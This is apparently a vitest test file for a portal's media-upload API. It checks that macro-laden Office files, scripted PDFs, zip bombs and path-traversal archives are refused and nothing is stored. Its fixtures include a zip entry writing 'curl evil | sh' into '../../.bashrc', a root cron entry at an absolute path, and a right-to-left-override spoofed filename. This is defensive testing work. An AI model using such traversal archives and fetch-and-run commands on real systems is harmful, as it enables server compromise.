import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ARCHIVE_LIMITS } from '../../src/server/lib/archive-inspection.js';
import { MAX_INPUT_PIXELS } from '../../src/server/lib/image-variants.js';
import { MAX_FILES_PER_UPLOAD } from '../../src/server/modules/media/media.routes.js';
import { excel97, officeOpenXml, openDocumentText, pdfWith, powerPoint97, word97, zipBomb, zipOf, zipOfMany, zipWithRawNames } from '../support/unsafe-files.js';
import { type FilePart, expectError, multipart } from './support/http.js';
import { type TestApp, bearer, expectStatus, startTestApp } from './support/test-app.js';

/** Room for the large images and many-entry archives below. */
const LIMITS = { UPLOAD_MAX_IMAGE_MB: '20', UPLOAD_MAX_DOCUMENT_MB: '20' };

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp(LIMITS);
});
afterAll(() => t.close());

interface Media {
  id: number;
  url: string;
  mime: string;
  originalName: string;
}

function upload(kind: 'images' | 'documents', files: FilePart[]) {
  const body = multipart(files);
  return t.app.inject({ method: 'POST', url: `/api/admin/media/${kind}`, headers: { ...bearer(t.tokens.editor), ...body.headers }, payload: body.payload });
}

async function mediaCount(): Promise<number> {
  const row = await t.ctx.db.selectFrom('media').select((eb) => eb.fn.countAll<number>().as('count')).executeTakeFirstOrThrow();
  return Number(row.count);
}

async function storedCount(): Promise<number> {
  let count = 0;
  for await (const key of t.ctx.storage.list()) if (key) count += 1;
  return count;
}

/** Runs refused uploads and checks that they left neither a row nor a file behind. */
async function expectNothingStored(refused: () => Promise<void>) {
  const [rows, files] = [await mediaCount(), await storedCount()];
  await refused();
  expect(await mediaCount()).toBe(rows);
  expect(await storedCount()).toBe(files);
}

describe('content the portal does not keep: 422 with the reason, nothing stored', () => {
  it('refuses PDFs that run JavaScript or launch programs, Office files with macros or passwords, and unsafe archives', async () => {
    const cases: [string, Buffer, string][] = [
      ['JavaScript on opening', await pdfWith('open-javascript'), 'pdf-javascript'],
      ['JavaScript in an object stream', await pdfWith('names-javascript', { objectStreams: true }), 'pdf-javascript'],
      ['a launch action', await pdfWith('launch', { objectStreams: true }), 'pdf-launch'],
      ['a .docx with a VBA project', await officeOpenXml('docx', { vbaProject: true }), 'office-macros'],
      ['a .xlsm', await officeOpenXml('xlsx', { vbaProject: true, macroEnabled: true }), 'office-macros'],
      ['a .pptx with a VBA project', await officeOpenXml('pptx', { vbaProject: true }), 'office-macros'],
      ['an OpenDocument text with Basic macros', await openDocumentText({ basicMacros: true }), 'office-macros'],
      ['a Word 97 document with macros', word97({ macros: true }), 'office-macros'],
      ['an Excel 97 workbook with an Excel 4.0 macro sheet', excel97({ macroSheet: true }), 'office-macros'],
      ['a PowerPoint 97 presentation with macros', powerPoint97({ vbaProject: true }), 'office-macros'],
      ['a password-protected Word 97 document', word97({ encrypted: true }), 'office-encrypted'],
      ['a zip bomb', await zipBomb(Math.ceil(ARCHIVE_LIMITS.ratioFromBytes / (1024 * 1024)) + 1), 'archive-bomb'],
      ['a zip of too many entries', await zipOfMany(ARCHIVE_LIMITS.maxEntries + 1), 'archive-too-many-entries'],
      ['a zip writing outside its folder', await zipWithRawNames([{ name: '../../.bashrc', data: 'curl evil | sh' }]), 'archive-unsafe-path'],
      ['a zip with an absolute path', await zipWithRawNames([{ name: '/etc/cron.d/x', data: '* * * * * root evil' }]), 'archive-unsafe-path'],
    ];
    await expectNothingStored(async () => {
      for (const [what, bytes, reason] of cases) {
        const error = expectError(await upload('documents', [{ filename: 'prilog.pdf', bytes }]), 422, 'CONTENT_REFUSED', what);
        expect(error.details, what).toMatchObject({ reason, fields: { file: error.message } });
      }
    });
  });

  it('keeps the same kinds of file without scripts, macros or unsafe entries', async () => {
    const kept: [Buffer, string][] = [
      [await pdfWith('none', { objectStreams: true }), 'application/pdf'],
      [await officeOpenXml('docx'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      [await openDocumentText(), 'application/vnd.oasis.opendocument.text'],
      [word97(), 'application/msword'],
      [excel97(), 'application/vnd.ms-excel'],
      [powerPoint97(), 'application/vnd.ms-powerpoint'],
      [await zipOf([{ name: 'izvestaji/2024.txt', data: 'Извештај' }]), 'application/zip'],
    ];
    for (const [bytes, mime] of kept) {
      const [media] = expectStatus<{ items: Media[] }>(await upload('documents', [{ filename: 'prilog', bytes }]), 201).items;
      expect(media?.mime).toBe(mime);
    }
  });

  it('refuses an image of more pixels than the bound with 422, before decoding it', async () => {
    const side = Math.ceil(Math.sqrt(MAX_INPUT_PIXELS)) + 1;
    const huge = await sharp({ create: { width: side, height: side, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    await expectNothingStored(async () => {
      const error = expectError(await upload('images', [{ filename: 'ogromna.png', bytes: huge }]), 422, 'CONTENT_REFUSED');
      expect(error.details).toMatchObject({ reason: 'image-too-many-pixels', limits: { maxPixels: MAX_INPUT_PIXELS } });
      expect(error.message).toContain(`${side}×${side}`);
    });
  });
});

describe('file parts', () => {
  it('answers two files sent where one is taken with 400, storing neither', async () => {
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#c00' } })
      .png()
      .toBuffer();
    await expectNothingStored(async () => {
      const error = expectError(
        await upload('images', [
          { filename: 'prva.png', bytes: png },
          { filename: 'druga.png', bytes: png },
        ]),
        400,
        'VALIDATION_FAILED',
      );
      expect(error.details).toMatchObject({ maxFiles: 1, fields: { file: expect.any(String) } });
    });
  });

  it('answers more documents than one request takes with 400, storing none', async () => {
    const files = Array.from({ length: MAX_FILES_PER_UPLOAD + 1 }, (_, i) => ({ filename: `${i}.txt`, bytes: Buffer.from(`Датотека ${i}`) }));
    await expectNothingStored(async () => {
      const error = expectError(await upload('documents', files), 400, 'VALIDATION_FAILED');
      expect(error.details).toMatchObject({ maxFiles: MAX_FILES_PER_UPLOAD });
    });
  });
});

describe('file names', () => {
  it('keeps a name without bidirectional or zero-width characters, ending in the extension of what the file is', async () => {
    const pdf = await pdfWith('none');
    // Shown as "Odluka-exe.pdf" in a right-to-left override: a PDF named as a program.
    const [media] = expectStatus<{ items: Media[] }>(await upload('documents', [{ filename: 'Od\u200bluka\u202efdp.exe', bytes: pdf }]), 201).items;
    expect(media!.originalName).toBe('Odlukafdp.pdf');
    const download = await t.app.inject({ method: 'GET', url: media!.url });
    expect(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(String(download.headers['content-disposition']))![1]!)).toBe('Odlukafdp.pdf');
  });
});

describe('reads while images are processed', () => {
  it('answers reads between the uploads of large images, which are processed one at a time', async () => {
    // A 36-megapixel photo-like image: seconds of decoding on a small machine.
    const width = 6000;
    const height = 6000;
    const pixels = Buffer.alloc(width * height * 3);
    for (let i = 0; i < pixels.length; i += 3) {
      const x = (i / 3) % width;
      const y = Math.floor(i / 3 / width);
      pixels[i] = x >> 4;
      pixels[i + 1] = y >> 4;
      pixels[i + 2] = (x + y) >> 5;
    }
    const photo = await sharp(pixels, { raw: { width, height, channels: 3 } })
      .png()
      .toBuffer();
    expect(photo.length).toBeLessThan(20 * 1024 * 1024);
    const small = expectStatus<Media>(await upload('images', [{ filename: 'mala.png', bytes: await sharp({ create: { width: 30, height: 20, channels: 3, background: '#036' } }).png().toBuffer() }]), 201);

    // Event order: each read records how many uploads had finished when it was answered.
    const uploads = 4;
    let finished = 0;
    const answeredAfter: number[] = [];
    let failed = false;
    const uploading = Promise.all(
      Array.from({ length: uploads }, async () => {
        expectStatus(await upload('images', [{ filename: 'fotografija.png', bytes: photo }]), 201);
        finished += 1;
      }),
    ).catch((error: unknown) => {
      failed = true;
      throw error;
    });
    while (finished < uploads && !failed) {
      // A stored file (a file read) and an API list (a response compressed): both use libuv's pool.
      for (const url of [small.url, '/api/articles?limit=5']) {
        const response = await t.app.inject({ method: 'GET', url, headers: { 'accept-encoding': 'br' } });
        expect(response.statusCode, url).toBe(200);
      }
      answeredAfter.push(finished);
    }
    await uploading;
    // Reads were answered before the first image was done, and between each image and the next:
    // none of them waited for the images being processed.
    for (let done = 0; done < uploads; done++) {
      expect(answeredAfter.filter((count) => count === done).length, `reads answered while ${done} of ${uploads} images were done`).toBeGreaterThanOrEqual(3);
    }
  });
});
